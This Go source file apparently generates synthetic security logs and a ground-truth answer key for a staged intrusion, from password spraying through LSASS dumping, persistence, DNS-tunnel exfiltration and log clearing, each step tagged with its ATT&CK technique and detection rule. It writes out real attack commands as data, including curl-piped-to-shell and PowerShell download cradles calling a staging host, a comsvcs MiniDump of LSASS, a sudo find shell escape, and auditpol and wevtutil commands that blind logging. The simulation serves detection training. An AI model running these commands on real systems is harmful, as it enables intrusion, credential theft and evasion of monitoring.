package demo

import (
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"strconv"
	"strings"
	"time"
	"unicode/utf16"
)

// The intruder's places.
const (
	attacker = "203.0.113.66"
	staging  = "198.51.100.23"
	dropBox  = "203.0.113.140"
	tunnel   = "t.cdn-sync.example"
)

func (p *play) step(at time.Time, s Step) {
	s.N, s.Time = len(p.truth.Steps)+1, at
	p.truth.Steps = append(p.truth.Steps, s)
}

// intrusion is the story: a guessed password, the jump host, a workstation, the
// domain, the file server, the data.
func (p *play) intrusion() {
	d := p.draws("intrusion")
	v := p.people[victimAt]
	start := p.to.Add(-20 * time.Hour)

	// 1, 2: one password for everybody, and it fits one.
	at := start
	for i, w := range p.people {
		if i == victimAt || w.leaver || i%4 == 3 {
			continue
		}
		p.signIn(&signin{at: at.Truncate(time.Millisecond), w: w, ip: attacker, land: "NL", reason: "invalid_password", code: 50126, client: "Authenticated SMTP", app: "Mail", agent: "BAV2ROPC", session: d.uuid()})
		at = at.Add(d.part(50*time.Second, 75*time.Second))
	}
	p.signIn(&signin{at: start.Add(9 * time.Minute), w: &person{id: "e-0871", mail: "records.desk@" + dnsDomain}, ip: attacker, land: "NL", reason: "account_disabled", code: 50057, client: "Authenticated SMTP", app: "Mail", agent: "BAV2ROPC", session: d.uuid()})
	p.step(start, Step{Title: "Password spray at the identity provider", Host: "idp", Source: "idp", Dataset: "signin", Technique: "T1110.003", Rule: `Disabled Account`})
	at = soon(d, start.Add(41*time.Minute))
	p.signIn(&signin{at: at, w: v, ip: attacker, land: "NL", ok: true, client: "Authenticated SMTP", app: "Mail", agent: "BAV2ROPC", session: d.uuid()})
	p.step(at, Step{Title: "Sign-in from a new country without a second factor", Host: "idp", Source: "idp", Dataset: "signin", Technique: "T1078.004", Person: v.id, Rule: `Without a Second Factor`})

	// 3, 4: the jump host takes the same password; sudo gives a shell.
	at = soon(d, start.Add(58*time.Minute))
	s := &shell{h: p.jump, user: v.account, uid: v.uid, from: attacker, port: 50112, pid: 24188, session: 4977, tty: 3}
	p.login(d, s, at, "password", 3*time.Hour+6*time.Minute)
	in := &flow{at: at.Add(-2 * time.Second), length: 3*time.Hour + 6*time.Minute, src: attacker, dst: "192.0.2.20", sport: s.port, dport: 22, app: "SSH", service: "ssh", sent: 611_204, got: 1_940_117, state: "SF", history: "ShAdDaFf", uid: "C" + d.word(17), local: true}
	p.passed(in, 31, "wan", "dmz")
	p.step(at, Step{Title: "Login to the jump host by password from a public address", Host: "jump01", Source: "linux", Dataset: "linux-sshd", Technique: "T1021.004", Person: v.id, Rule: `SSH Logon With a Password`})
	at = soon(d, start.Add(63*time.Minute))
	p.sudo(s, at, 24301, "/home/"+v.account, "/usr/bin/find /var/log -maxdepth 0 -exec /bin/bash ;")
	p.step(at, Step{Title: "Root shell out of a tool under sudo", Host: "jump01", Source: "linux", Dataset: "linux-sudo", Technique: "T1548.003", Person: v.id, Rule: `Shell Opened From a Tool`})

	// 5 to 7: as root.
	root := who{auid: s.uid, uid: 0, session: s.session, tty: "pts3"}
	p.exec(d, p.jump, at.Add(6*time.Millisecond), root, 24300, 24301, "/usr/bin/find", "/home/"+v.account, "exec", "/usr/bin/find", "/var/log", "-maxdepth", "0", "-exec", "/bin/bash", ";")
	p.exec(d, p.jump, at.Add(9*time.Millisecond), root, 24301, 24302, "/usr/bin/bash", "/home/"+v.account, "exec", "/bin/bash")
	p.exec(d, p.jump, at.Add(40*time.Second), root, 24302, 24310, "/usr/bin/id", "/home/"+v.account, "exec", "id")
	p.exec(d, p.jump, at.Add(55*time.Second), root, 24302, 24311, "/usr/bin/uname", "/home/"+v.account, "exec", "uname", "-a")
	at = soon(d, start.Add(67*time.Minute))
	url := "http://" + staging + "/u.sh"
	p.exec(d, p.jump, at, root, 24302, 24340, "/usr/bin/dash", "/root", "exec", "sh", "-c", "curl -fsSL "+url+" | sh")
	p.exec(d, p.jump, at.Add(8*time.Millisecond), root, 24340, 24341, "/usr/bin/curl", "/root", "exec", "curl", "-fsSL", url)
	p.exec(d, p.jump, at.Add(9*time.Millisecond), root, 24340, 24342, "/usr/bin/dash", "/root", "exec", "sh")
	p.exec(d, p.jump, at.Add(700*time.Millisecond), root, 24342, 24344, "/usr/bin/curl", "/root", "exec", "curl", "-fsSL", "-o", "/tmp/.cache-x11", "http://"+staging+"/agent")
	p.exec(d, p.jump, at.Add(2100*time.Millisecond), root, 24342, 24346, "/usr/bin/chmod", "/root", "exec", "chmod", "+x", "/tmp/.cache-x11")
	p.conn(&flow{at: at.Add(9 * time.Millisecond), length: 612 * time.Millisecond, src: p.jump.ip, dst: staging, sport: 41870, dport: 80, service: "http", sent: 84, got: 2_914, state: "SF", history: "ShADadFf", uid: "C" + d.word(17)})
	p.passed(&flow{at: at, length: time.Second, src: p.jump.ip, dst: staging, sport: 41870, dport: 80, app: "HTTP", sent: 84, got: 2_914}, 33, "dmz", "wan")
	p.step(at, Step{Title: "A script from the Internet piped to a shell", Host: "jump01", Source: "linux-audit", Dataset: "linux-auditd", Technique: "T1059.004", Person: v.id, Rule: `Download Piped Into a Shell`})
	at = soon(d, start.Add(72*time.Minute))
	p.exec(d, p.jump, at, root, 24302, 24388, "/usr/bin/cat", "/root", "exec", "cat", "/etc/shadow")
	p.open(d, p.jump, at.Add(3*time.Millisecond), root, 24302, 24388, "/usr/bin/cat", "/root", "/etc/shadow", "0100640", "NORMAL", "shadow", "cat", "/etc/shadow")
	p.step(at, Step{Title: "The password file read", Host: "jump01", Source: "linux-audit", Dataset: "linux-auditd", Technique: "T1003.008", Person: v.id, Rule: `Password File Read`})
	at = soon(d, start.Add(76*time.Minute))
	p.exec(d, p.jump, at, root, 24302, 24402, "/usr/bin/dash", "/root", "exec", "sh", "-c", "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI"+d.word(43)+" >> /root/.ssh/authorized_keys")
	p.open(d, p.jump, at.Add(2*time.Millisecond), root, 24402, 24402, "/usr/bin/dash", "/root", "/root/.ssh/authorized_keys", "0100600", "NORMAL", "ssh_keys", "sh", "-c", "echo")
	p.exec(d, p.jump, at.Add(5*time.Second), root, 24302, 24411, "/tmp/.cache-x11", "/root", "exec", "/tmp/.cache-x11", "-b")
	p.step(at, Step{Title: "A key of the intruder's own for root, and a program in a temporary folder", Host: "jump01", Source: "linux-audit", Dataset: "linux-auditd", Technique: "T1098.004", Person: v.id, Rule: `Temporary Folder|(?i)authorized.?keys`})

	p.windowsPart(d, v)
}

// windowsPart begins nine hours later, when the password of a service account is
// broken.
func (p *play) windowsPart(d *draws, v *person) {
	services := [...][2]string{{"svc-deploy", "1520"}, {"svc-sql", "1521"}, {"svc-backup", "1522"}, {"svc-scan", "1523"}, {"svc-print", "1524"}}
	at := soon(d, p.to.Add(-11*time.Hour))
	for i, s := range services {
		p.conn(&flow{at: at.Add(time.Duration(i) * 170 * time.Millisecond), length: 3 * time.Millisecond, src: p.jump.ip, dst: p.ad.ip, sport: 43120 + i*2, dport: 88, service: "krb_tcp", sent: 1_702, got: 1_655, state: "SF", history: "ShADadFf", local: true, uid: "C" + d.word(17)})
		p.serviceTicket(at.Add(time.Duration(i)*170*time.Millisecond), v.user(), s[0], domainSID+"-"+s[1], "0x17", "0x40810010", p.jump.ip, 43120+i*2, d.guid())
	}
	p.step(at, Step{Title: "Service tickets with a weak cipher for five service accounts", Host: "DC01", Source: "dc", Dataset: "win-security", Technique: "T1558.003", Person: v.id, Rule: `RC4`})

	deploy := account{"svc-deploy", domain, domainSID + "-1520"}
	at = soon(d, p.to.Add(-10*time.Hour-20*time.Minute))
	l := &logon{who: deploy, id: 0x7b91e04, kind: 3, pkg: "NTLM", station: "JUMP01", ip: p.jump.ip, port: 51844, guid: noGUID, elevated: true}
	p.logonOn(p.wsIT, at, l)
	p.share(p.wsIT, at.Add(90*time.Millisecond), l, "IPC$", "", "0x1")
	p.share(p.wsIT, at.Add(130*time.Millisecond), l, "ADMIN$", `\??\C:\Windows`, "0x1")
	boot := &logon{who: systemAccount(), id: 0x3e7, kind: 5, guid: noGUID}
	service := &process{program: &program{image: "System", hashes: hashesOf("System", "")}, pid: 4, guid: "{" + p.wsIT.prefix + "-0001-0000-eb03-000000001900}", l: boot}
	p.create(p.wsIT, at.Add(600*time.Millisecond), service, `C:\Windows\xKqPzLrT.exe`)
	p.install(p.wsIT, at.Add(time.Second), l, "BTOBTO", `%SystemRoot%\xKqPzLrT.exe`)
	p.service(p.wsIT, at.Add(1200*time.Millisecond), "BTOBTO", "running")
	p.conn(&flow{at: at.Add(-20 * time.Millisecond), length: 9 * time.Second, src: p.jump.ip, dst: p.wsIT.ip, sport: l.port, dport: 445, service: "gssapi,ntlm,smb,dce_rpc", sent: 68_422, got: 9_207, state: "SF", history: "ShADadFf", local: true, uid: "C" + d.word(17)})
	p.step(at.Add(time.Second), Step{Title: "A service with a random name on a workstation, from the jump host", Host: "WS-IT-03", Source: "workstations", Dataset: "win-security", Technique: "T1569.002", Rule: `Remote Execution|Administrative Share`})

	tool := func(image, parent, parentCommand, original string) *program {
		return &program{image: image, parent: parent, parentCommand: parentCommand, description: "-", company: "-", product: "-", original: original, version: "-", system: true, integrity: "System", hashes: hashesOf(image, "tool")}
	}
	ms := func(image, parent, parentCommand, original, description string) *program {
		g := tool(image, parent, parentCommand, original)
		g.company, g.product, g.version, g.description = "Microsoft Corporation", "Microsoft® Windows® Operating System", "10.0.26100.1 (WinBuild.160101.0800)", description
		g.hashes = hashesOf(image, g.version)
		return g
	}
	const (
		shellImage = `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
		cmdImage   = `C:\Windows\System32\cmd.exe`
	)
	svc := tool(`C:\Windows\xKqPzLrT.exe`, `C:\Windows\System32\services.exe`, `C:\Windows\system32\services.exe`, "-")
	p.start(d, p.wsIT, at.Add(1100*time.Millisecond), svc, `C:\Windows\xKqPzLrT.exe`, boot)
	cmd := ms(cmdImage, svc.image, svc.image, "Cmd.Exe", "Windows Command Processor")
	p.start(d, p.wsIT, at.Add(8*time.Second), cmd, `cmd.exe /c whoami /all`, boot)
	whoami := ms(`C:\Windows\System32\whoami.exe`, cmdImage, `cmd.exe /c whoami /all`, "whoami.exe", "whoami - displays logged on user information")
	p.start(d, p.wsIT, at.Add(8100*time.Millisecond), whoami, `whoami  /all`, boot)

	at = soon(d, p.to.Add(-10*time.Hour-16*time.Minute))
	text := "$c=New-Object Net.WebClient;IEX $c.DownloadString('http://" + staging + "/l.ps1')"
	ps := p.start(d, p.wsIT, at, ms(shellImage, cmdImage, `cmd.exe /Q /c powershell`, "PowerShell.EXE", "Windows PowerShell"), "powershell.exe -nop -w hidden -enc "+utf16Base64(text), boot)
	p.script(p.wsIT, at.Add(400*time.Millisecond), text, d.uuid(), "")
	p.connect(p.wsIT, at.Add(900*time.Millisecond), ps, 50877, staging, "-", 80)
	p.conn(&flow{at: at.Add(900 * time.Millisecond), length: 1400 * time.Millisecond, src: p.wsIT.ip, dst: staging, sport: 50877, dport: 80, service: "http", sent: 71, got: 48_190, state: "SF", history: "ShADadFf", uid: "C" + d.word(17)})
	p.passed(&flow{at: at.Add(900 * time.Millisecond), length: 1400 * time.Millisecond, src: p.wsIT.ip, dst: staging, sport: 50877, dport: 80, app: "HTTP", sent: 71, got: 48_190}, 12, "lan", "wan")
	p.step(at, Step{Title: "Encoded PowerShell fetches the next stage", Host: "WS-IT-03", Source: "workstations", Dataset: "win-sysmon", Technique: "T1059.001", Rule: `PowerShell|Script Downloads`})

	at = soon(d, p.to.Add(-10*time.Hour-2*time.Minute))
	dump := p.start(d, p.wsIT, at, ms(`C:\Windows\System32\rundll32.exe`, shellImage, "powershell.exe -nop -w hidden", "RUNDLL32.EXE", "Windows host process (Rundll32)"),
		`rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 744 C:\Windows\Temp\d.dmp full`, boot)
	p.access(p.wsIT, at.Add(200*time.Millisecond), dump, `C:\Windows\system32\lsass.exe`, "0x1fffff", `C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|C:\Windows\System32\comsvcs.dll+2d3a1|C:\Windows\System32\rundll32.exe+3b6e`)
	p.create(p.wsIT, at.Add(500*time.Millisecond), dump, `C:\Windows\Temp\d.dmp`)
	p.step(at, Step{Title: "Memory of the credential store read", Host: "WS-IT-03", Source: "workstations", Dataset: "win-sysmon", Technique: "T1003.001", Rule: `comsvcs|LSASS`})

	at = soon(d, p.to.Add(-9*time.Hour-50*time.Minute))
	tasks := ms(`C:\Windows\System32\schtasks.exe`, shellImage, "powershell.exe -nop -w hidden", "schtasks.exe", "Task Scheduler Configuration Tool")
	command := `schtasks /create /tn "\Microsoft\Windows\UpdateOrchestrator\Health Scan" /tr "C:\Users\Public\Libraries\svcsync.exe" /sc minute /mo 20 /ru SYSTEM /f`
	p.start(d, p.wsIT, at, tasks, command, boot)
	p.log(p.wsIT, p.wsIT.security, at.Add(250*time.Millisecond), 4698, false, func(f *fields) {
		f.subject(account{"WS-IT-03$", domain, "S-1-5-18"}, 0x3e7)
		f.s("TaskName", `\Microsoft\Windows\UpdateOrchestrator\Health Scan`)
		f.s("TaskContent", "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\"><Triggers><TimeTrigger><Repetition><Interval>PT20M</Interval></Repetition></TimeTrigger></Triggers><Principals><Principal><UserId>S-1-5-18</UserId></Principal></Principals><Actions><Exec><Command>C:\\Users\\Public\\Libraries\\svcsync.exe</Command></Exec></Actions></Task>")
		f.s("ClientProcessStartKey", "5629499534214420")
		f.s("ClientProcessId", "6120")
		f.s("ParentProcessId", "5588")
		f.s("RpcCallClientLocality", "0")
		f.s("FQDN", p.wsIT.fqdn)
	})
	reg := p.start(d, p.wsIT, at.Add(20*time.Second), ms(`C:\Windows\System32\reg.exe`, shellImage, "powershell.exe -nop -w hidden", "reg.exe", "Registry Console Tool"),
		`reg add HKLM\Software\Microsoft\Windows\CurrentVersion\Run /v SyncHelper /t REG_SZ /d C:\Users\Public\Libraries\svcsync.exe /f`, boot)
	p.setValue(p.wsIT, at.Add(20200*time.Millisecond), reg, `HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\SyncHelper`, `C:\Users\Public\Libraries\svcsync.exe`)
	p.step(at, Step{Title: "A scheduled task and a run key to stay", Host: "WS-IT-03", Source: "workstations", Dataset: "win-sysmon", Technique: "T1053.005", Rule: `Scheduled Task|Run Key`})

	// The dump held an administrator of the domain.
	admin := p.people[3]
	at = soon(d, p.to.Add(-8*time.Hour-45*time.Minute))
	da := &logon{who: admin.user(), id: 0x9d02f7a, kind: 3, pkg: "NTLM", station: "WS-IT-03", ip: p.wsIT.ip, port: 51902, guid: noGUID, elevated: true}
	p.logonOn(p.ad, at, da)
	added := account{"svc-healthmon", domain, domainSID + "-1688"}
	p.log(p.ad, p.ad.security, at.Add(3*time.Second), 4720, false, func(f *fields) {
		f.s("TargetUserName", added.name)
		f.s("TargetDomainName", domain)
		f.s("TargetSid", added.sid)
		f.subject(da.who, da.id)
		f.s("PrivilegeList", "-")
		f.s("SamAccountName", added.name)
		f.s("DisplayName", "-")
		f.s("UserPrincipalName", added.name+"@"+dnsDomain)
		f.s("PasswordLastSet", "%%1794")
		f.s("AccountExpires", "%%1794")
		f.s("PrimaryGroupId", "513")
		f.s("OldUacValue", "0x0")
		f.s("NewUacValue", "0x15")
		f.s("UserAccountControl", "\n\t\t%%2080\n\t\t%%2082\n\t\t%%2084")
	})
	p.member(p.ad, at.Add(5*time.Second), 4728, da, added, "CN="+added.name+",CN=Users,DC=agency,DC=example", "Domain Admins", domainSID+"-512", domain)
	p.member(p.ad, at.Add(6*time.Second), 4732, da, added, "CN="+added.name+",CN=Users,DC=agency,DC=example", "Administrators", "S-1-5-32-544", "Builtin")
	p.logoff(p.ad, at.Add(40*time.Second), da)
	p.step(at.Add(5*time.Second), Step{Title: "A new account among the domain administrators", Host: "DC01", Source: "dc", Dataset: "win-security", Technique: "T1098", Person: admin.id, Rule: `Privileged Group`})

	// The file server.
	at = soon(d, p.to.Add(-7*time.Hour))
	p.explicit(p.wsIT, at.Add(-time.Second), &logon{who: account{"WS-IT-03$", domain, "S-1-5-18"}, id: 0x3e7}, added, "FS01."+dnsDomain, shellImage)
	fl := &logon{who: added, id: 0x5c0a911, kind: 3, pkg: "NTLM", station: "WS-IT-03", ip: p.wsIT.ip, port: 52010, guid: noGUID, elevated: true}
	p.logonOn(p.fs, at, fl)
	p.share(p.fs, at.Add(80*time.Millisecond), fl, "ADMIN$", `\??\C:\Windows`, "0x1")
	p.install(p.fs, at.Add(time.Second), fl, "PSEXESVC", `%SystemRoot%\PSEXESVC.exe`)
	p.service(p.fs, at.Add(1200*time.Millisecond), "PSEXESVC", "running")
	psexec := tool(`C:\Windows\PSEXESVC.exe`, `C:\Windows\System32\services.exe`, `C:\Windows\system32\services.exe`, "psexesvc.exe")
	psexec.product, psexec.company, psexec.description, psexec.version = "Sysinternals PsExec", "Sysinternals", "PsExec Service", "2.43"
	p.start(d, p.fs, at.Add(1100*time.Millisecond), psexec, `C:\Windows\PSEXESVC.exe`, boot)
	p.conn(&flow{at: at.Add(-20 * time.Millisecond), length: 7 * time.Minute, src: p.wsIT.ip, dst: p.fs.ip, sport: fl.port, dport: 445, service: "gssapi,ntlm,smb,dce_rpc", sent: 1_204_551, got: 88_930, state: "SF", history: "ShADadFf", local: true, uid: "C" + d.word(17)})
	p.step(at.Add(time.Second), Step{Title: "Remote service on the file server with the new account", Host: "FS01", Source: "fileserver", Dataset: "win-system", Technique: "T1021.002", Rule: `Remote Execution|Administrative Share`})

	at = soon(d, p.to.Add(-6*time.Hour-20*time.Minute))
	rar := tool(`C:\PerfLogs\rar.exe`, psexec.image, psexec.image, "Rar.exe")
	rar.company, rar.product, rar.description, rar.version = "Alexander Roshal", "WinRAR", "Command line RAR", "7.1.0"
	work := p.start(d, p.fs, at, rar, `C:\PerfLogs\rar.exe a -r -v500m -hpQ7vT2xNe -m1 C:\PerfLogs\p.rar D:\Shares\Finance D:\Shares\HR-Forms`, boot)
	for i := range 4 {
		p.create(p.fs, at.Add(time.Duration(i+1)*3*time.Minute), work, fmt.Sprintf(`C:\PerfLogs\p.part%d.rar`, i+1))
	}
	p.step(at, Step{Title: "Finance and personnel files packed with a password", Host: "FS01", Source: "fileserver", Dataset: "win-sysmon", Technique: "T1560.001", Rule: `Archive Made With a Password`})

	// The agent is stopped; what the host writes for forty minutes never arrives.
	at = p.gapFrom.Add(-4 * time.Second)
	sc := ms(`C:\Windows\System32\sc.exe`, cmdImage, "cmd", "sc.exe", "Service Control Manager Configuration Tool")
	auditpol := ms(`C:\Windows\System32\auditpol.exe`, cmdImage, "cmd", "AUDITPOL.EXE", "Audit Policy Program")
	p.start(d, p.fs, at.Add(-20*time.Second), auditpol, `auditpol /set /subcategory:"Process Creation" /success:disable /failure:disable`, boot)
	p.log(p.fs, p.fs.security, at.Add(-19900*time.Millisecond), 4719, false, func(f *fields) {
		f.subject(account{"FS01$", domain, "S-1-5-18"}, 0x3e7)
		f.s("CategoryId", "%%8276")
		f.s("SubcategoryId", "%%13312")
		f.s("SubcategoryGuid", "{0CCE922B-69AE-11D9-BED3-505054503030}")
		f.s("AuditPolicyChanges", "%%8448, %%8450")
	})
	p.start(d, p.fs, at, sc, "sc stop winlogbeat", boot)
	p.service(p.fs, at.Add(2*time.Second), "winlogbeat", "stopped")
	p.step(at.Add(-20*time.Second), Step{Title: "Auditing switched off and the log agent stopped", Host: "FS01", Source: "fileserver", Dataset: "win-security", Technique: "T1562.002", Rule: `Audit Policy|Auditing`})

	// The agent would have sent these.
	sync := tool(`C:\Users\Public\Libraries\svcsync.exe`, cmdImage, "cmd", "-")
	ps = p.start(d, p.fs, p.gapFrom.Add(4*time.Minute), sync, `C:\Users\Public\Libraries\svcsync.exe -d C:\PerfLogs`, boot)
	at = p.gapFrom.Add(5 * time.Minute)
	for i := range 60 {
		t := at.Add(time.Duration(i)*9*time.Second + d.part(0, 4*time.Second)).Truncate(time.Microsecond)
		var block [30]byte
		for j := range block {
			block[j] = byte(d.Uint32())
		}
		name := hex.EncodeToString(block[:]) + "." + hex.EncodeToString(block[:12]) + strconv.Itoa(i) + "." + tunnel
		p.dns(&question{at: t, uid: "C" + d.word(17), src: p.fs.ip, sport: d.between(49152, 65535), id: d.between(1, 65535), rtt: d.part(30*time.Millisecond, 90*time.Millisecond),
			name: name, qtype: 16, qname: "TXT", rname: "NOERROR", answer: "TXT 4 " + d.word(4), ttl: 1})
		p.resolve(p.fs, t, ps, name, "0.0.0.0")
	}
	p.step(at, Step{Title: "Data in DNS names", Host: "FS01", Source: "zeek", Dataset: "zeek-dns", Technique: "T1048.003", Rule: `DNS`})

	at = p.gapFrom.Add(20 * time.Minute)
	for i, size := range [...]uint64{524_301_772, 524_300_911, 524_301_020, 211_870_336} {
		f := &flow{at: at.Add(time.Duration(i) * 3 * time.Minute), length: 2*time.Minute + d.part(0, 40*time.Second).Truncate(time.Microsecond), src: p.fs.ip, dst: dropBox, sport: 53120 + i, dport: 8443,
			service: "ssl", app: "tcp-8443", sent: size, got: 1_204_332, state: "SF", history: "ShADadFf", uid: "C" + d.word(17)}
		p.connect(p.fs, f.at, ps, f.sport, dropBox, "-", 8443)
		p.conn(f)
		p.passed(f, 12, "servers", "wan")
	}
	p.step(at, Step{Title: "1.8 GB to an unknown server", Host: "FS01", Source: "firewall", Dataset: "firewall", Technique: "T1048.002", Rule: `Large Upload`})

	for i, name := range [...]string{"Security", "System", "Microsoft-Windows-Sysmon/Operational"} { // not seen either
		clearing := ms(`C:\Windows\System32\wevtutil.exe`, cmdImage, "cmd", "wevtutil.exe", "Eventing Command Line Utility")
		p.start(d, p.fs, p.gapTo.Add(-time.Minute+time.Duration(i)*time.Second), clearing, "wevtutil cl "+name, boot)
		p.service(p.fs, p.gapTo.Add(-50*time.Second+time.Duration(i)*time.Second), "Windows Event Collector", "stopped")
	}
	at = p.gapTo.Add(7 * time.Second)
	p.log(p.fs, p.fs.security, at, 1102, false, func(f *fields) {
		f.s("SubjectUserSid", "S-1-5-18")
		f.s("SubjectUserName", "SYSTEM")
		f.s("SubjectDomainName", "NT AUTHORITY")
		f.s("SubjectLogonId", "0x3e7")
		f.s("xml_name", "LogFileCleared")
	})
	p.service(p.fs, at.Add(time.Second), "winlogbeat", "running")
	p.step(at, Step{Title: "The security log cleared", Host: "FS01", Source: "fileserver", Dataset: "win-security", Technique: "T1070.001", Rule: `Log Cleared`})
}

// bystanders are the two things that have nothing to do with the intruder.
func (p *play) bystanders() {
	d := p.draws("bystanders")
	w := p.people[leaverAt]
	at := p.to.Add(-30 * time.Hour)
	p.signIn(&signin{at: at, w: w, ip: w.home, land: "US", ok: true, mfa: true, client: "browser", app: "Document Store", device: w.laptopID, agent: w.agent, session: d.uuid()})
	p.truth.Leaver = Sighting{Person: w.id, Source: p.idp.Source, Time: at, What: "sign-in after the end date"}
	for n := 1; n < 4; n++ {
		t := p.from.Add(time.Duration(n)*12*time.Hour + d.part(time.Hour, 9*time.Hour)).Truncate(time.Millisecond)
		phone := p.people[abroadAt]
		p.deviceReport(&report{at: t, w: phone, osVersion: phone.phoneVersion(), land: "TH", action: "report", checkIn: t.Add(-d.part(time.Second, 20*time.Minute)).Truncate(time.Second)})
		if n == 1 {
			p.truth.Abroad = Sighting{Person: phone.id, Source: p.mdm.Source, Time: t, What: "phone " + phone.phoneSerial + " reports from TH"}
		}
	}
	l := &logon{who: w.user(), id: 0x4410be2, kind: 3, pkg: "Kerberos", station: "-", ip: w.laptop, port: 50551, guid: d.guid()}
	p.ticket(at.Add(3*time.Minute), w.user(), w.laptop, 50549)
	p.logonOn(p.fs, at.Add(3*time.Minute+time.Second), l)
	p.share(p.fs, at.Add(3*time.Minute+2*time.Second), l, "Projects", `\??\D:\Shares\Projects`, "0x1")
	p.logoff(p.fs, at.Add(9*time.Minute), l)
}

// soon is within a minute: people do not act on the full second.
func soon(d *draws, at time.Time) time.Time {
	return at.Add(d.part(0, 50*time.Second)).Truncate(time.Microsecond)
}

// utf16Base64 is how PowerShell wants an encoded command.
func utf16Base64(s string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return strings.TrimSpace(base64.StdEncoding.EncodeToString(b))
}
